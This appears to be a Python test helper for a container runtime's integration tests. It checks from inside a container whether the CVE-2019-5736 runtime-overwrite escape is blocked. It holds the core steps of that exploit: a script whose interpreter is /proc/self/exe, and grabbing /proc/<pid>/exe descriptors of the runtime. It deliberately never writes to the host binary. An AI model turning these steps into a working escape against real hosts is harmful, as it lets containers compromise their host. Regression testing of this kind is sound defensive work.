#!/usr/bin/env python3
"""CVE-2019-5736 from inside a container (test/integration/cve.test.ts).

  exe-watch.py HOST_DEV HOST_INO

HOST_DEV and HOST_INO are st_dev and st_ino of the host's dist/ctc-init.
Writes /tmp/evil, a "binary" whose interpreter is /proc/self/exe: a runtime
that execs it runs its own binary again, inside the container, as the
interpreter (`device-filter` makes ctc-init wait on stdin, so it stays).
Then, until /tmp/done exists, watches /proc for processes whose exe is
ctc-init (that one, and the init of every `ctc exec` before its execve) and
takes an O_PATH fd of each /proc/<pid>/exe (the kernel allows that only to
a process with at least the target's capabilities, or CAP_SYS_PTRACE).
When /tmp/done appears, all of them have exec'd or are gone, and for each
fd it looks at what the fd holds:

  host    the fd is the host's ctc-init (same st_dev and st_ino): the
          container could overwrite the runtime's binary on the host
  reopen  reopening /proc/self/fd/<n> for writing: "ok" or the errno name
  write   writing one byte through it: "ok", the errno name, or "skipped"

It never writes to the host's file: a write is tried only on a memfd that
is not the host's file (its link reads "/memfd:..."). Prints "ready", then
"grab <pid> <cmdline>" for each fd taken, "evil <pid>" once a watched
process runs /tmp/evil, and at the end one line "report <json>".
"""
import errno, json, os, sys, time

host = (int(sys.argv[1]), int(sys.argv[2]))
with open('/tmp/evil', 'w') as f:
    f.write('#!/proc/self/exe device-filter\n')
os.chmod('/tmp/evil', 0o755)

me = os.getpid()
watching = {}  # pid -> [fd, cmdline, exec'd or gone]
denied = {}  # pid -> errno name of the last refused attempt
report = []


def name(e):
    return errno.errorcode.get(e.errno, str(e.errno))


def is_ctc_init(pid):
    # comm too: without ptrace access to a process its exe link is refused
    try:
        with open(f'/proc/{pid}/comm') as f:
            if f.read().strip() == 'ctc-init':
                return True
        return 'ctc-init' in os.readlink(f'/proc/{pid}/exe')
    except OSError:
        return False


def judge(pid, fd, cmdline, execd):
    st = os.fstat(fd)  # an O_PATH fd is enough for fstat
    link = os.readlink(f'/proc/self/fd/{fd}')
    r = {'pid': pid, 'cmdline': cmdline, 'execd': execd, 'link': link, 'host': (st.st_dev, st.st_ino) == host}
    try:
        w = os.open(f'/proc/self/fd/{fd}', os.O_WRONLY)
        r['reopen'] = 'ok'
    except OSError as e:
        w, r['reopen'] = None, name(e)
    if w is not None and not r['host'] and link.startswith('/memfd:'):
        try:
            os.write(w, b'\0')
            r['write'] = 'ok'
        except OSError as e:
            r['write'] = name(e)
    else:
        r['write'] = 'skipped'
    if w is not None:
        os.close(w)
    os.close(fd)
    report.append(r)


def cmdline_of(pid):
    with open(f'/proc/{pid}/cmdline', 'rb') as f:
        return f.read().replace(b'\0', b' ').decode().strip()


print('ready', flush=True)
while not os.path.exists('/tmp/done'):
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == me or not is_ctc_init(p):
            continue
        try:
            if p not in watching:
                fd = os.open(f'/proc/{p}/exe', os.O_PATH)
                if 'ctc-init' not in os.readlink(f'/proc/self/fd/{fd}'):
                    os.close(fd)  # it exec'd meanwhile: that is the container's own binary
                    continue
                watching[p] = [fd, cmdline_of(p), False]
                print(f'grab {p} {watching[p][1]}', flush=True)
                if 'device-filter' in watching[p][1]:
                    print(f'evil {p}', flush=True)
            elif 'device-filter' in cmdline_of(p) and 'device-filter' not in watching[p][1]:
                watching[p][1] = cmdline_of(p)  # the same process, now running /tmp/evil
                print(f'evil {p}', flush=True)
        except OSError as e:  # not allowed (yet), or gone
            denied[p] = name(e)
    for p, w in watching.items():
        w[2] = w[2] or not is_ctc_init(p)  # it has exec'd, or is gone
    time.sleep(0.0005)
for p, (fd, cmdline, execd) in watching.items():
    judge(p, fd, cmdline, execd)
print('report ' + json.dumps({'grabs': report, 'denied': denied}), flush=True)
